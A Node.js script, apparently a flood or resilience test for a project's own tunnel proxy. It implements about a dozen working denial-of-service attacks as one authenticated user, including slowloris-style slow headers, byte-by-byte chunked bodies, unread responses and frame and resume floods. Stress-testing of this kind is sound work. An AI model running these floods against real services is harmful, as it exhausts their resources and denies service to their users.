// Attacks a proxy as one user, within what that user may: node attacker.mjs URL KIND COUNT. The token is in FLOOD_TOKEN.
// The user has a machine, `evil`, whose agent is this process too.
import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import { WebSocket } from 'ws'
import { dial, frame, HEADER_BYTES, headed, json, nextId, TYPE, windowed } from '../flood/wire.mjs'

const [url, kind, count] = process.argv.slice(2)
const token = process.env.FLOOD_TOKEN
const { hostname: host, port } = new URL(url)
const EVIL = { kind: 'ssh', machine: 'evil' }
/** As large as a window may be. */
const WINDOW = 8_388_608
const WAITING_BYTES = 1_048_576
const attacking = () => process.stdout.write('flooding\n')

/** Calls `step` again and again while the socket takes more. */
function pump(socket, step) {
  if (socket.readyState !== WebSocket.OPEN) return
  if (socket.bufferedAmount > WAITING_BYTES) return void setTimeout(() => pump(socket, step), 2)
  step()
  setImmediate(() => pump(socket, step))
}

/** An agent of `evil` that takes every stream; `accepted` is told of each. */
function agent(accepted = () => {}) {
  return new Promise((resolve) => {
    const more = { machine: 'evil', enrol: { hostKeys: [], sshUser: 'me' }, instance: nextId() }
    const socket = dial(url, token, { role: 'agent', more }, () => {
      socket.on('message', (data) => {
        const stream = data.readUInt32BE(1)
        if ((data[0] & 0x3f) === TYPE.OPEN) {
          socket.send(headed(TYPE.ACCEPT, stream, { window: WINDOW, resumeMs: 120_000 }))
          accepted(socket, stream)
        } else if ((data[0] & 0x3f) === TYPE.RESUME) {
          const { received, limit } = JSON.parse(data.subarray(HEADER_BYTES))
          socket.send(json(TYPE.RESUMED, stream, { received, limit }))
        }
      })
      setTimeout(() => resolve(socket), 300)
    })
  })
}

/** A client's link with so many streams to `evil`. */
function client(streams, ready) {
  const socket = dial(url, token, { role: 'client' }, () => {
    for (let index = 0; index < streams; index++)
      socket.send(headed(TYPE.OPEN, 2 * index + 1, { ...EVIL, id: nextId(), window: WINDOW }))
    ready(socket)
  })
}

/** On each connection a chunked body of these chunks for as long as it is taken; a new connection where it ends. */
function send(head, chunks) {
  const once = () => {
    const socket = connect(port, host, () => {
      socket.write(`${head}transfer-encoding: chunked\r\n\r\n`)
      const more = () => {
        if (!socket.destroyed) socket.write(chunks, () => setImmediate(more))
      }
      more()
    })
    socket.resume()
    socket.on('error', () => {}).on('end', () => socket.destroy())
    socket.on('close', () => setTimeout(once, 2))
  }
  for (let index = 0; index < Number(count); index++) once()
}

const ATTACKS = {
  /** Its machine sends all that the windows allow, and its client takes nothing. */
  async 'slow readers'() {
    const chunk = Buffer.alloc(65_536)
    await agent((socket, stream) => {
      let left = WINDOW
      const step = () => {
        left -= chunk.length + HEADER_BYTES
        if (left > 0) socket.send(frame(TYPE.DATA, stream, chunk))
      }
      const more = () => {
        if (left <= 0 || socket.readyState !== WebSocket.OPEN) return
        if (socket.bufferedAmount < WAITING_BYTES) step()
        setImmediate(more)
      }
      more()
    })
    for (let index = 0; index < Number(count); index++) client(20, (socket) => socket.pause())
    attacking()
  },
  /** It asks, and never reads an answer. */
  async 'unread answers'() {
    for (let index = 0; index < Number(count); index++)
      client(0, (socket) => {
        socket.pause()
        pump(socket, () => socket.send(frame(TYPE.PING, 0, Buffer.alloc(8))))
      })
    attacking()
  },
  /** One byte in each frame, on a stream that stands. */
  async 'tiny frames'() {
    await agent()
    const data = (stream) => frame(TYPE.DATA, stream, Buffer.from('x'))
    for (let index = 0; index < Number(count); index++)
      client(1, (socket) => {
        let sent = 0
        setTimeout(
          () =>
            pump(socket, () => {
              for (let batch = 0; batch < 100 && sent < WINDOW - 1_000; batch++) {
                socket.send(data(1))
                sent += HEADER_BYTES + 1
              }
            }),
          300,
        )
      })
    attacking()
  },
  /** WINDOWs that say nothing new, on a stream that stands. */
  async 'empty windows'() {
    await agent()
    for (let index = 0; index < Number(count); index++)
      client(1, (socket) => {
        const step = () => {
          for (let batch = 0; batch < 100; batch++) socket.send(windowed(1, 0, WINDOW))
        }
        setTimeout(() => pump(socket, step), 300)
      })
    attacking()
  },
  /** One stream that goes from link to link. */
  async resumes() {
    await agent()
    let attempt = 0
    const id = nextId()
    const links = []
    for (let index = 0; index < Math.max(2, Number(count)); index++)
      client(0, (socket) => {
        if (links.push({ socket, stream: 1 }) > 1) return
        socket.send(headed(TYPE.OPEN, 1, { ...EVIL, id, window: WINDOW }))
      })
    setInterval(() => {
      for (const link of links) {
        link.stream += 2
        attempt++
        if (link.socket.readyState === WebSocket.OPEN)
          link.socket.send(
            json(TYPE.RESUME, link.stream, { ...EVIL, id, received: 0, limit: WINDOW, attempt }),
          )
      }
    }, 5)
    attacking()
  },
  /** Many small requests, as fast as they are answered. */
  async 'small requests'() {
    const keepAlive = new Agent({ keepAlive: true, maxSockets: Number(count) })
    const options = { host, port, agent: keepAlive, headers: { authorization: `Bearer ${token}` } }
    const ask = () => {
      const again = () => setImmediate(ask)
      request({ ...options, path: '/api/tunnel/machines' }, (response) =>
        response.resume().once('end', again),
      )
        .once('error', again)
        .end()
    }
    for (let index = 0; index < Number(count); index++) ask()
    attacking()
  },
  /** Requests to a machine that there is not, asked ahead and asked again whatever is answered. */
  async 'refused requests'() {
    const head = `GET /api/tunnel/machines/none/http/80/ HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${token}\r\n\r\n`
    const batch = head.repeat(16)
    const ask = () => {
      let unanswered = 16
      const socket = connect(port, host, () => socket.write(batch))
      socket.on('error', () => {}).on('close', () => setTimeout(ask, 2))
      socket.on('data', (bytes) => {
        unanswered -= bytes.toString('latin1').split('HTTP/1.1 ').length - 1
        if (unanswered > 0) return
        unanswered = 16
        socket.write(batch)
      })
    }
    for (let index = 0; index < Number(count); index++) ask()
    attacking()
  },
  /** Half a body, and nothing more. */
  async 'unfinished uploads'() {
    const head = `POST /api/tunnel/auth/revoke HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${token}\r\n`
    const body = `content-type: application/json\r\ncontent-length: 16000\r\n\r\n{"token":"${'a'.repeat(8_000)}`
    for (let index = 0; index < Number(count) * 25; index++)
      connect(port, host)
        .on('error', () => {})
        .write(head + body)
    attacking()
  },
  /** Bodies byte by byte, again and again, where hardly a body is wanted. */
  async 'bodies in bytes'() {
    const head = `POST /api/tunnel/auth/refresh HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\n`
    send(head, '1\r\n"\r\n'.repeat(16_000))
    attacking()
  },
  /** A body byte by byte behind a request that has its answer. */
  async 'endless bodies'() {
    send(`GET /api/tunnel/health HTTP/1.1\r\nhost: ${host}\r\n`, '1\r\nx\r\n'.repeat(16_000))
    attacking()
  },
  /** Uploads byte by byte, to its own machine. */
  async 'uploads in bytes'() {
    await agent()
    const path = '/api/tunnel/machines/evil/http/80/'
    const head = `POST ${path} HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${token}\r\n`
    send(head, '1\r\nx\r\n'.repeat(16_000))
    attacking()
  },
  /** A head that comes one byte at a time. */
  async 'slow headers'() {
    const sockets = Array.from({ length: Number(count) * 25 }, () =>
      connect(port, host).on('error', () => {}),
    )
    for (const socket of sockets) socket.write('GET /api/tunnel/machines HTTP/1.1\r\nx-slow: ')
    setInterval(() => {
      for (const socket of sockets) socket.write('a')
    }, 50)
    attacking()
  },
}

await ATTACKS[kind]()
